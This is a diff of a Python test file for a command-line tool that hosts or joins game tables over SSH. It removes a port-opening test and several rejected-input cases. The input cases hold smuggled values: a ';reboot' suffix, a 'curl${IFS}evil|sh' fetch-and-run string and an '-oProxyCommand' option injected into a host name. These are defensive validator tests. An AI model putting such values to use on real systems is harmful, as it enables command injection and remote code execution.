@@ -200,30 +200,6 @@ def test_join_reads_the_address_with_its_fingerprint(
     assert began[0][0] == JoinWish("anna.example", 99, PIN, "careful", None)
 
 
-@pytest.mark.parametrize(
-    ("words", "listen", "folder"),
-    [
-        ([], ("", 8822), None),
-        (["--local"], None, "own"),
-        (["--local", "--everyone"], None, "everyone"),
-        (["--local", "--listen", ":0"], ("", 0), "own"),
-    ],
-)
-def test_a_local_table_opens_no_port_unless_asked(
-    began: list[tuple[Invite, Options, bool]],
-    words: list[str],
-    listen: tuple[str, int] | None,
-    folder: str | None,
-) -> None:
-    """`--local` alone does not open the SSH port; beside `--listen` it does both (issue 5)."""
-    assert cli.main(["host", "one-hundred", *words]) == 0
-    wish = began[0][0]
-
-    assert isinstance(wish, HostWish)
-    assert wish.listen == listen
-    assert (wish.local and wish.local.folder) == folder
-
-
 def test_ascii_is_chosen_where_suits_cannot_be_shown(
     began: list[tuple[Invite, Options, bool]], monkeypatch: pytest.MonkeyPatch
 ) -> None:
@@ -262,16 +238,6 @@ WRONG_WORDS = {
     "host one-hundred --open=maybe": "invalid choice: 'maybe'",
     "host one-hundred --friend SHA256:short": "no fingerprint of a key",
     "host one-hundred --no-seat --open": "nobody is there to say yes",
-    "join /x --plain": "names no table",
-    "join a/b/c --plain": "names no table",
-    "join ann/x;reboot --plain": "names no table",
-    "join ssh://me@server/x;curl${IFS}evil|sh --plain": "names no table",
-    "join ssh://-oProxyCommand=x --plain": "no name of a server",
-    "join ssh://me@-oProxyCommand=x --plain": "no name of a server",
-    "join ssh://tilde": "use --plain",
-    "host one-hundred --everyone": "--local opens a socket",
-    "host one-hundred --group staff": "--local opens a socket",
-    "host one-hundred --local --everyone --group staff": "not for both",
     "join ann@host --plain": "a name before the host",
     "join host;reboot --plain": "no name of a host",
     "join host:0 --plain": "a number from 1 to 65535",
